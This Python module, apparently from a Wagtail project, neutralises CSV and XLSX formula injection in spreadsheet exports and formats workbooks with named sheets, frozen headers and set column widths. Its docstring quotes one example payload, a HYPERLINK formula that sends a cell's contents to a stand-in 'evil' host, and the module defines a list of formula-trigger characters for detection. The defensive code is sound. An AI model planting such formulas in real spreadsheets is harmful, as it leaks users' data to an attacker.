"""Spreadsheets: cells never run as a formula (CSV/formula injection), and workbooks that read
well (named sheets, frozen header rows, column widths; see "workbooks" below).

A participant's answer such as ``=HYPERLINK("http://evil/?"&A1,"Click")`` or ``@SUM(...)``
is data, not a formula, yet Excel and LibreOffice evaluate a CSV cell or an XLSX formula cell
that starts with ``=``, ``+``, ``-`` or ``@`` (and tab or carriage return, which some of them
skip before looking). Every CSV and XLSX the project writes passes its cells through here:

- CSV: ``safe_cell`` prefixes such a string with ``'`` (the OWASP rule); spreadsheets show
  the text and never evaluate it.
- XLSX: ``xlsx_cells`` writes every string as a string cell (``data_type = "s"``, which
  openpyxl would otherwise make a formula for a leading ``=``) and marks the risky ones
  ``quotePrefix`` so that editing the cell in Excel does not turn it into a formula either.
  The value itself stays unchanged (no visible ``'``). Numbers and dates stay numbers and dates.
"""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from itertools import chain, islice
from typing import IO, Any

#: Characters that make a spreadsheet treat a cell as a formula (OWASP CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_risky(value: Any) -> bool:
    """Whether ``value`` is a string that a spreadsheet might evaluate."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def safe_cell(value: Any) -> Any:
    """``value`` for a CSV cell: a risky string gets a leading ``'``; anything else is kept.

    Phone numbers such as ``+7 701 …`` get the prefix too: a spreadsheet shows them as text,
    which is what they are.
    """
    return f"'{value}" if is_risky(value) else value


def xlsx_cells(worksheet, values: Iterable[Any]) -> list:
    """Cells for ``worksheet.append`` (normal or write-only workbook) whose strings are text.

    Non-string values (numbers, dates, ``None``) are written as they are; dates and times
    read as ISO dates (``2026-05-12``, ``2026-05-12 09:30``) whatever the viewer's locale.
    """
    from openpyxl.cell import Cell, WriteOnlyCell  # heavy: only where a workbook is made

    cells = []
    for value in values:
        if isinstance(value, Cell):  # made already, e.g. a header cell to be styled
            cells.append(value)
            continue
        cell = WriteOnlyCell(worksheet, value=value)
        if isinstance(value, dt.datetime):
            cell.number_format = DATETIME_FORMAT
        elif isinstance(value, dt.date):
            cell.number_format = DATE_FORMAT
        if isinstance(value, str):
            cell.data_type = "s"
            if is_risky(value):
                cell.quotePrefix = True
        cells.append(cell)
    return cells


# --- workbooks ------------------------------------------------------------------------------
#
# Every XLSX the project writes has a sheet named for what it holds (never "Sheet1"), a bold
# header row frozen while scrolling and repeated on every printed page, and columns wide
# enough to read without dragging: ``xlsx_workbook`` writes such a workbook from tables, and
# ``wagtail_xlsx_named_sheets`` makes Wagtail's own exports (participants, site history) do
# the same. Workbooks are write-only (streamed): a long participant list is never held twice.

#: Excel refuses these in a sheet's name, and names are at most 31 characters long.
SHEET_TITLE_FORBIDDEN = "[]:*?/\\"
SHEET_TITLE_MAX = 31
#: Column widths are measured on the header and this many rows (a streamed sheet must set its
#: widths before its first row); kept between these numbers of characters.
WIDTH_SAMPLE = 200
WIDTH_MIN, WIDTH_MAX = 8, 60
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"


@dataclass
class XlsxSheet:
    """One table of a workbook: a sheet title, a header row and the rows under it."""

    title: str
    header: Sequence[Any]
    rows: Iterable[Sequence[Any]]
    #: Column widths in characters; measured from the header and the first rows when empty.
    widths: Sequence[float] = ()


def sheet_title(title: str, used: set[str]) -> str:
    """A title Excel accepts (no ``[]:*?/\\``, at most 31 characters), unique in ``used``.

    Side effects: adds the title to ``used``.
    """
    clean = "".join(" " if ch in SHEET_TITLE_FORBIDDEN else ch for ch in str(title))
    clean = " ".join(clean.split()).strip("'")[:SHEET_TITLE_MAX].strip() or "Data"
    name, i = clean, 2
    while name.casefold() in {u.casefold() for u in used}:  # Excel compares them caselessly
        suffix = f" ({i})"
        name, i = clean[: SHEET_TITLE_MAX - len(suffix)] + suffix, i + 1
    used.add(name)
    return name


def _shown_length(value: Any) -> int:
    if isinstance(value, dt.datetime):
        return len(DATETIME_FORMAT)
    if isinstance(value, dt.date):
        return len(DATE_FORMAT)
    if value is None:
        return 0
    text = str(value)
    return max((len(line) for line in text.splitlines()), default=0)


def column_widths(header: Sequence[Any], rows: Sequence[Sequence[Any]]) -> list[float]:
    """Widths (characters) that show each column's header and its longest sampled value."""
    widths = [_shown_length(h) for h in header]
    for row in rows:
        for i, value in enumerate(row):
            value = getattr(value, "value", value)  # a cell made already (Wagtail's writer)
            if i < len(widths):
                widths[i] = max(widths[i], _shown_length(value))
            else:
                widths.append(_shown_length(value))
    return [float(min(WIDTH_MAX, max(WIDTH_MIN, w + 2))) for w in widths]


def xlsx_add_sheet(workbook, sheet: XlsxSheet, used: set[str]) -> Any:
    """Write ``sheet`` into a write-only ``workbook``: named, header bold and frozen, widths set.

    Rows are streamed; only the first ``WIDTH_SAMPLE`` are held to measure the columns.
    Side effects: a new worksheet in ``workbook``; its title is added to ``used``.
    """
    # Heavy library (openpyxl, STYLE rule 9): only where a workbook is made.
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    worksheet = workbook.create_sheet(title=sheet_title(sheet.title, used))
    rows = iter(sheet.rows)
    sample = list(islice(rows, WIDTH_SAMPLE))
    widths = list(sheet.widths) or column_widths(sheet.header, sample)
    for i, width in enumerate(widths, start=1):
        worksheet.column_dimensions[get_column_letter(i)].width = width
    worksheet.freeze_panes = "A2"
    worksheet.print_title_rows = "1:1"
    header = xlsx_cells(worksheet, [str(h) for h in sheet.header])
    bold = Font(bold=True)
    for cell in header:
        cell.font = bold
    worksheet.append(header)
    for row in chain(sample, rows):
        worksheet.append(xlsx_cells(worksheet, row))
    return worksheet


def xlsx_workbook(sheets: Iterable[XlsxSheet], out: IO[bytes] | None = None) -> bytes:
    """A workbook of ``sheets`` (one named sheet per table), as bytes or written into ``out``.

    Values stay what they are: numbers as numbers, dates as dates, text as text (never a
    formula, see ``xlsx_cells``). Side effects: writes to ``out`` when given (returns b"").
    """
    # Heavy library (openpyxl, STYLE rule 9): only where a workbook is made.
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    used: set[str] = set()
    for sheet in sheets:
        xlsx_add_sheet(workbook, sheet, used)
    if not used:
        xlsx_add_sheet(workbook, XlsxSheet(title="Data", header=[], rows=[]), used)
    if out is not None:
        workbook.save(out)
        return b""
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def wagtail_xlsx_named_sheets() -> None:
    """Wagtail's XLSX exports (the participant list, Reports → Site history, any listing) write
    through ``xlsx_add_sheet``: a sheet named as the screen (``xlsx_sheet_title`` on the view,
    else its page title) instead of "Sheet1", header frozen, widths set. Called once at
    start-up (``RegistrationConfig.ready``); values go through Wagtail's own preprocessing."""
    # Wagtail's admin views import models: the app registry must be ready first.
    from openpyxl import Workbook
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin.write_xlsx, "_named_sheets", False):
        return

    def write_xlsx(self, queryset, output) -> None:
        title = getattr(self, "xlsx_sheet_title", None)
        if not title and hasattr(self, "get_page_title"):
            title = self.get_page_title()
        fields = list(self.list_export)
        rows = (
            [
                self.preprocess_field_value(field, value, self.FORMAT_XLSX)
                for field, value in self.to_row_dict(item).items()
            ]
            for item in queryset
        )
        header = [self.get_heading(queryset, field) for field in fields]
        workbook = Workbook(write_only=True)
        xlsx_add_sheet(
            workbook,
            XlsxSheet(title=str(title or self.get_filename()), header=header, rows=rows),
            set(),
        )
        workbook.save(output)

    write_xlsx._named_sheets = True
    SpreadsheetExportMixin.write_xlsx = write_xlsx
